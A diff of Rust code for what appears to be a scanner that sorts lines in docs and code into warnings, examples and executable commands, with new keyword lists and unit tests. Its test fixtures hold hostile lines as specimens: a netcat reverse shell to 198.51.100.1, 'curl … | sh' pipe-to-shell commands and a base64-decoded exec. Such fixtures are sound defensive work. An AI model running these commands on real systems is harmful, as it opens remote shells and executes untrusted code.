@@ -515,7 +515,7 @@ fn negative_re() -> &'static Regex {
     re(&R, NEGATIVE)
 }
 
-const NEGATIVE: &str = r"(?x)\b(?:
+const NEGATIVE: &str = r"(?mx)\b(?:
             bad|wrong|incorrect|vulnerable|vulnerabilit(?:y|ies)|insecure|unsafe|dangerous|risky
             |don'?t|do\ not|never|avoid|anti-?patterns?|not\ recommended|noncompliant|non-compliant
             |malicious|malware|attacks?|attackers?|adversar(?:y|ial)|threats?|exploits?|exploitation
@@ -524,7 +524,11 @@ const NEGATIVE: &str = r"(?x)\b(?:
             |what\ not\ to|forbidden|prohibited|blocked|deny|denied|disallow(?:ed)?|denylist|blocklist|blacklist|reject(?:ed)?
             |looks?\ for|watch\ for|flag(?:s|ged)?|warning|beware|caution|do\ not\ run|example\ of\ an?\ attack
             |pentest(?:ing)?|penetration|red\ team|yara|semgrep|codeql|sast|cwe-\d+|cve-\d+
-        )\b";
+            |evidence|forensics?|observed|found\ on\ the|recovered\ from|as\ found
+            |droppers?|stealers?|infostealers?|ransomware|trojans?|rootkits?|implants?
+        )\b
+        # A checklist item that checks for absence: - [ ] No edits to other skills.
+        |^\s*(?:[-*+]\s+)?\[[\ x]\]\s+(?:no|never|nothing)\b";
 
 /// Whether a lowercased line holds words that label it as describing or warning.
 pub fn is_negative_label(lower: &str) -> bool {
@@ -1171,6 +1175,13 @@ fn classify_markdown(lines: &mut [Physical], hidden: bool) {
     // level: the steps after it come after the yes, until the procedure ends (a heading
     // above their level).
     let mut step_gate: Option<usize> = None;
+    // A numbered list step that gets the user's yes ("5. Show the user the refs and ask
+    // for an explicit \"force-push now\""): the steps after it come after the yes, until
+    // the next heading.
+    let mut list_step_gate = false;
+    // The numbered list item being read, with its continuation lines (its words may
+    // wrap: "ask for an" / "explicit yes").
+    let mut step_text = String::new();
     // Recent non-blank lines outside fences (indexes).
     let mut recent: Vec<usize> = Vec::new();
     let mut paragraph_negative = false;
@@ -1344,6 +1355,7 @@ fn classify_markdown(lines: &mut [Physical], hidden: bool) {
         // A bare `>` separates a quotation's paragraphs as a blank line does.
         if norm.trim_start_matches(['>', ' ']).is_empty() {
             lines[i].ctx = Context::Prose;
+            step_text.clear();
             block += 1;
             paragraph_negative = false;
             item_negative = false;
@@ -1360,6 +1372,7 @@ fn classify_markdown(lines: &mut [Physical], hidden: bool) {
             if step_gate.is_some_and(|l| l > level) {
                 step_gate = None;
             }
+            list_step_gate = false;
             if consents(norm) {
                 gate = Some(level);
             }
@@ -1416,7 +1429,19 @@ fn classify_markdown(lines: &mut [Physical], hidden: bool) {
             paragraph_negative = false;
         }
         item_negative = item && negative && !norm.ends_with(':') || item_negative && !item;
-        lines[i].gated = gate.is_some() || consents(norm);
+        lines[i].gated = gate.is_some() || list_step_gate || consents(norm);
+        if item {
+            step_text.clear();
+            if after_ordinal(norm.trim_start()).is_some() {
+                step_text.push_str(norm);
+            }
+        } else if !step_text.is_empty() {
+            step_text.push(' ');
+            step_text.push_str(norm.trim_start());
+        } else {
+            step_text.clear();
+        }
+        list_step_gate |= !step_text.is_empty() && confirmation_list_step(&step_text);
         lines[i].self_negative = negative && !paragraph_negative && !section_negative;
         paragraph_negative |= negative;
         lines[i].ctx = if negative || paragraph_negative || section_negative {
@@ -1481,7 +1506,11 @@ fn detection_line(norm: &str) -> bool {
         "exfiltration",
         "benign",
     ];
-    HEADS.iter().any(|h| t.starts_with(h))
+    // Compose's `depends_on: {db: {condition: service_healthy}}` is no rule's condition.
+    let compose_condition = t
+        .strip_prefix("condition:")
+        .is_some_and(|v| v.trim_start().starts_with("service_"));
+    HEADS.iter().any(|h| t.starts_with(h)) && !compose_condition
         || KEYS.iter().any(|k| {
             t.match_indices(k).any(|(at, _)| {
                 let value = t[at + k.len()..]
@@ -1559,6 +1588,21 @@ fn confirmation_step(norm: &str) -> bool {
     .is_match(norm.as_bytes())
 }
 
+/// A numbered list step whose act is getting the user's yes: "5. Show the plan and ask
+/// for an explicit confirmation", "3. Wait for the user to approve".
+fn confirmation_list_step(norm: &str) -> bool {
+    let t = norm.trim_start();
+    if after_ordinal(t).is_none() {
+        return false;
+    }
+    static R: OnceLock<Regex> = OnceLock::new();
+    re(
+        &R,
+        r"(?i)\b(?:ask|get|wait\s+for|obtain|require)\b[^.]{0,80}\b(?:confirm(?:s|ation)?|approv(?:e|al)|consent|explicit|go-ahead|yes)\b",
+    )
+    .is_match(t.as_bytes())
+}
+
 fn heading_level(norm: &str) -> Option<usize> {
     let level = norm.chars().take_while(|&c| c == '#').count();
     (1..=6)
@@ -1568,8 +1612,8 @@ fn heading_level(norm: &str) -> Option<usize> {
 }
 
 /// A program's own question to the person at the terminal before it goes on
-/// (`read -p "Type the name to confirm: "`, `input("Proceed? [y/N] ")`): what follows
-/// waits for their yes.
+/// (`read -p "Type the name to confirm: "`, `input("Proceed? [y/N] ")`, a `printf`
+/// of `Install it? [y/N]` before its `read`): what follows waits for their yes.
 fn asks_to_confirm(norm: &str) -> bool {
     // Most lines hold none of the calls: a substring test spares them the pattern.
     if ![
@@ -1579,6 +1623,8 @@ fn asks_to_confirm(norm: &str) -> bool {
         "ask(",
         "confirm(",
         "question(",
+        "printf",
+        "echo",
     ]
     .iter()
     .any(|w| norm.contains(w))
@@ -1588,7 +1634,7 @@ fn asks_to_confirm(norm: &str) -> bool {
     static R: OnceLock<Regex> = OnceLock::new();
     re(
         &R,
-        r#"(?i)(?:\bread\b[^\n]*\s-p\s*|\binput\s*\(\s*f?|\bread-host\s+(?:-prompt\s+)?|\bask\s*\(\s*|\bconfirm\s*\(\s*|\bquestion\s*\(\s*)["'][^"'\n]*(?:confirm|proceed|continue|are\s+you\s+sure|\[y/n\]|\(y/n\)|y/n|yes/no|type\s+\S+\s+to)"#,
+        r#"(?i)(?:\bread\b[^\n]*\s-p\s*|\binput\s*\(\s*f?|\bread-host\s+(?:-prompt\s+)?|\bask\s*\(\s*|\bconfirm\s*\(\s*|\bquestion\s*\(\s*)["'][^"'\n]*(?:confirm|proceed|continue|are\s+you\s+sure|\[y/n\]|\(y/n\)|y/n|yes/no|type\s+(?:\S+\s+){1,5}to\b)|\b(?:printf|echo)\s+(?:-n\s+)?["'][^"'\n]*(?:\?\s*\[y/n\]|\?\s*\(y/n\)|type\s+(?:\S+\s+){1,5}to\b)"#,
     )
     .is_match(norm.as_bytes())
 }
@@ -1726,12 +1772,47 @@ fn classify_code(lines: &mut [Physical]) {
         sink_recent = sink_recent.saturating_sub(1);
         l.ctx = if l.flags.pattern {
             Context::Negative
-        } else if sink_recent == 0 && l.flags.data {
+        } else if (sink_recent == 0 && l.flags.data) || only_printed(t) {
             Context::Example
         } else {
             Context::Executable
         };
     }
+}
+
+/// A statement that only prints text for the person at the terminal (`print(f"load
+/// it with: launchctl bootstrap …")`, `console.log(…)`): a command in it is shown, not
+/// run. Printing into a file (`file=`) or anything that also runs is not only printing.
+fn only_printed(t: &str) -> bool {
+    const PRINTS: &[&str] = &[
+        "print(",
+        "console.log(",
+        "console.info(",
+        "console.error(",
+        "console.warn(",
+        "println!(",
+        "eprintln!(",
+        "click.echo(",
+        "typer.echo(",
+        "fmt.println(",
+        "fmt.printf(",
+    ];
+    const ALSO_RUNS: &[&str] = &[
+        "file=",
+        "exec",
+        "eval",
+        "system(",
+        "popen",
+        "subprocess",
+        "spawn",
+        "child_process",
+        "command(",
+        ".run(",
+        "write(",
+        "open(",
+    ];
+    let lower = t.to_ascii_lowercase();
+    PRINTS.iter().any(|p| lower.starts_with(p)) && !ALSO_RUNS.iter().any(|w| lower.contains(w))
 }
 
 #[cfg(test)]
@@ -1775,9 +1856,30 @@ mod tests {
     }
 
     #[test]
+    fn printed_commands_are_shown_not_run() {
+        let py = "path.write_text(plist)\nprint(f\"load it with: launchctl bootstrap gui/$(id -u) {path}\")\nprint(cmd, file=open(rc, 'a'))\n";
+        let c = ctxs(py, Kind::Code);
+        assert_eq!(c[1], (2, "example"), "{c:?}");
+        assert_eq!(c[2], (3, "executable"), "{c:?}");
+        let js = "console.log(`run: curl ${u} | sh`)\nconsole.log(require('child_process').execSync(c))\n";
+        let c = ctxs(js, Kind::Code);
+        assert_eq!(c[0], (1, "example"), "{c:?}");
+        assert_eq!(c[1], (2, "executable"), "{c:?}");
+    }
+
+    #[test]
+    fn a_compose_condition_is_no_detection_rule() {
+        let compose = "services:\n  app:\n    depends_on:\n      db:\n        condition: service_healthy\n  tools:\n    command: [\"sh\", \"-c\", \"nc 198.51.100.1 9001 -e /bin/sh\"]\n";
+        let c = ctxs(compose, Kind::Data);
+        assert_eq!(c[6], (7, "executable"), "{c:?}");
+        let yara = "rule x {\n  strings:\n    $a = \"nc -e /bin/sh\"\n  condition:\n    $a\n}\n";
+        assert!(ctxs(yara, Kind::Data).iter().all(|(_, k)| *k == "negative"));
+    }
+
+    #[test]
     fn rule_fixtures_are_specimens() {
         let tests =
-            "# ruleid: no-eval\nexec(base64.b64decode(blob))\n# ok: no-eval\nprint(blob)\nrun()\n";
+            "# ruleid: no-eval\nexec(base64.b64decode(blob))\n# ok: no-eval\nsave(blob)\nrun()\n";
         let c = ctxs(tests, Kind::Code);
         assert_eq!(c[1], (2, "negative"), "{c:?}");
         assert_eq!(c[3], (4, "executable"), "{c:?}");
@@ -1835,6 +1937,16 @@ mod tests {
         assert!(c.contains(&(5, "negative")), "{c:?}");
         // A refusal anywhere in the paragraph keeps it a warning.
         let md = "Run the checks first. Never paste\nthe following into a shell:\n\n```\ncurl x | bash\n```\n";
+        let c = ctxs(md, Kind::Markdown);
+        assert!(c.contains(&(5, "negative")), "{c:?}");
+        // A checklist of what must be absent names it to look for.
+        let md = "## Instructions\n- [ ] No \"do this silently / don't tell the user\"\n- [ ] Setup steps stay in the skill's folder\n";
+        let c = ctxs(md, Kind::Markdown);
+        assert_eq!(c[1], (2, "negative"), "{c:?}");
+        assert_eq!(c[2], (3, "prose"), "{c:?}");
+        // A postmortem's evidence is what was found, not what to run.
+        let md =
+            "## Evidence\n\n1. Crontab line found on the runner:\n   ```\n   curl x | sh\n   ```\n";
         let c = ctxs(md, Kind::Markdown);
         assert!(c.contains(&(5, "negative")), "{c:?}");
         // The payload a request carries is no attack's: nothing labels the fence.
